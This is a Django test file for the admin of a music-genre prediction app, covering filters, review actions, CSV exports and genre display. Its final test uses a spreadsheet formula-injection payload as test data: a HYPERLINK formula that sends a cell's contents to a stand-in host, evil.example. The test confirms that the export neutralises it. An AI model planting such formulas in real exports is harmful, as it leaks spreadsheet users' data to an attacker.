from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from predictions.models import Prediction
from tests.accounts.factories import UserFactory
from tests.predictions.factories import DonePredictionFactory, PredictionFactory

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:predictions_prediction_changelist")


@pytest.fixture
def admin_client_(client):
    admin = UserFactory(username="admin", is_staff=True, is_superuser=True)
    client.force_login(admin)
    client.admin = admin
    return client


def test_changelist_filters_and_search(admin_client_):
    DonePredictionFactory(title="Around the World", top_genre="dance", confidence=0.9)
    DonePredictionFactory(title="Clair de Lune", top_genre="classical", confidence=0.3)
    PredictionFactory(title="Still waiting")

    def titles(params):
        response = admin_client_.get(CHANGELIST, params)
        assert response.status_code == 200
        return sorted(p.title for p in response.context["cl"].result_list)

    assert titles({"status__exact": "pending"}) == ["Still waiting"]
    assert titles({"top_genre": "classical"}) == ["Clair de Lune"]
    assert titles({"confidence": "high"}) == ["Around the World"]
    assert titles({"q": "clair"}) == ["Clair de Lune"]
    assert titles({"reviewed": "no"}) == ["Around the World", "Clair de Lune", "Still waiting"]


def test_confirm_genre_fills_the_review_fields(admin_client_):
    done = DonePredictionFactory(top_genre="dance")
    pending = PredictionFactory()
    admin_client_.post(CHANGELIST, {"action": "confirm_genre", "_selected_action": [done.pk, pending.pk]})
    done.refresh_from_db()
    pending.refresh_from_db()
    assert done.reviewed_genre == "dance"
    assert done.reviewed_by == admin_client_.admin
    assert done.reviewed_at is not None
    assert pending.reviewed_genre == ""


def test_set_genre_to_corrects_the_genre(admin_client_):
    prediction = DonePredictionFactory(top_genre="dance")
    admin_client_.post(CHANGELIST, {"action": "set_genre_electronica", "_selected_action": [prediction.pk]})
    prediction.refresh_from_db()
    assert prediction.reviewed_genre == "electronica"
    assert prediction.top_genre == "dance"


def test_csv_export_lists_only_reviewed_predictions(admin_client_):
    reviewed = DonePredictionFactory(title="Reviewed", reviewed_genre="rock")
    DonePredictionFactory(title="Not reviewed")
    response = admin_client_.post(
        CHANGELIST,
        {
            "action": "export_reviewed_csv",
            "_selected_action": list(Prediction.objects.values_list("pk", flat=True)),
        },
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(row["id"], row["title"], row["reviewed_genre"]) for row in rows] == [
        (str(reviewed.pk), "Reviewed", "rock")
    ]


def test_detail_view_shows_probabilities_and_spectrogram(admin_client_):
    prediction = DonePredictionFactory(spectrogram="spectrograms/x.png")
    html = admin_client_.get(
        reverse("admin:predictions_prediction_change", args=[prediction.pk])
    ).content.decode()
    assert "Dance" in html
    assert "55.0%" in html
    assert reverse("predictions:spectrogram", args=[prediction.pk]) in html


def test_staff_can_listen_to_any_prediction_and_set_the_genre_from_a_list(admin_client_, tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile

    prediction = DonePredictionFactory(upload=SimpleUploadedFile("song.wav", b"RIFF....WAVEfmt "))
    page = admin_client_.get(
        reverse("admin:predictions_prediction_change", args=[prediction.pk])
    ).content.decode()
    assert f'src="{reverse("predictions:audio", args=[prediction.pk])}"' in page
    assert '<option value="shoegaze">Shoegaze &amp; dream pop</option>' in page
    assert admin_client_.get(reverse("predictions:audio", args=[prediction.pk])).status_code == 200


def test_lists_show_genre_names_not_model_labels(admin_client_):
    prediction = DonePredictionFactory(title="Crazy in Love", top_genre="rnb", confidence=0.8)
    prediction.reviewed_genre = "pop"
    prediction.save()

    response = admin_client_.get(CHANGELIST)

    rows = response.content.decode()
    assert ">R&amp;B<" in rows
    assert ">Pop<" in rows
    assert ">rnb<" not in rows


def test_the_labelled_csv_has_the_users_values_beside_the_models_and_the_review(admin_client_):
    corrected = DonePredictionFactory(
        title="Corrected", tempo_bpm=96.0, user_tempo_bpm=192.0, key="A minor", user_key="C major",
        user_genre="rnb", corrected_at=timezone.now(),
    )  # fmt: skip
    reviewed = DonePredictionFactory(title="Reviewed", reviewed_genre="rock", tempo_bpm=120.0, key="E minor")
    DonePredictionFactory(title="Neither")

    response = admin_client_.post(
        CHANGELIST,
        {
            "action": "export_labelled_csv",
            "_selected_action": list(Prediction.objects.values_list("pk", flat=True)),
        },
    )

    rows = {row["title"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert set(rows) == {"Corrected", "Reviewed"}
    row = rows["Corrected"]
    assert (row["predicted_genre"], row["user_genre"], row["genre_label"], row["genre_label_source"]) == (
        "dance", "rnb", "rnb", "user",
    )  # fmt: skip
    assert (row["predicted_tempo"], row["user_tempo"], row["tempo_label"]) == ("96", "192", "192")
    assert (row["predicted_key"], row["user_key"], row["key_label"]) == ("A minor", "C major", "C major")
    row = rows["Reviewed"]
    assert (row["genre_label"], row["genre_label_source"], row["tempo_label_source"]) == (
        "rock",
        "review",
        "estimate",
    )
    assert corrected.pk != reviewed.pk


def test_the_list_shows_the_users_label_and_filters_corrected_predictions(admin_client_):
    DonePredictionFactory(
        title="Said R&B", user_genre="rnb", user_tempo_bpm=90.0, corrected_at=timezone.now()
    )
    DonePredictionFactory(title="Untouched")

    response = admin_client_.get(CHANGELIST, {"corrected": "genre"})

    assert [p.title for p in response.context["cl"].result_list] == ["Said R&B"]
    assert "R&amp;B · 90 BPM" in response.content.decode()


def test_the_detail_shows_genre_names_not_model_labels(admin_client_):
    # Issue 26, point 9: the detail said "Top genre: classical".
    prediction = DonePredictionFactory(top_genre="rnb", user_genre="classical", corrected_at=timezone.now())

    page = admin_client_.get(reverse("admin:predictions_prediction_change", args=[prediction.pk]))

    readonly = {
        f.field["name"]: str(f.contents()) for line in page.context["adminform"] for f in _fields(line)
    }
    assert readonly["top_genre_name"] == "R&amp;B"
    assert readonly["user_genre_name"] == "Classical"
    assert readonly["labels"].startswith("genre: Classical (from the user)")


def _fields(fieldset):
    for line in fieldset:
        for field in line:
            if field.is_readonly:
                yield field


def test_the_csv_export_neutralises_formulas_in_user_text(admin_client_):
    # Issue 28, point 6: an upload titled "=..." became a live formula in the admin's spreadsheet.
    DonePredictionFactory(
        title='=HYPERLINK("http://evil.example/?"&A1,"click")', artist="@SUM(1+1)", reviewed_genre="rock"
    )

    response = admin_client_.post(
        CHANGELIST,
        {
            "action": "export_reviewed_csv",
            "_selected_action": list(Prediction.objects.values_list("pk", flat=True)),
        },
    )

    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["artist"] == "'@SUM(1+1)"
    assert row["reviewed_genre"] == "rock"
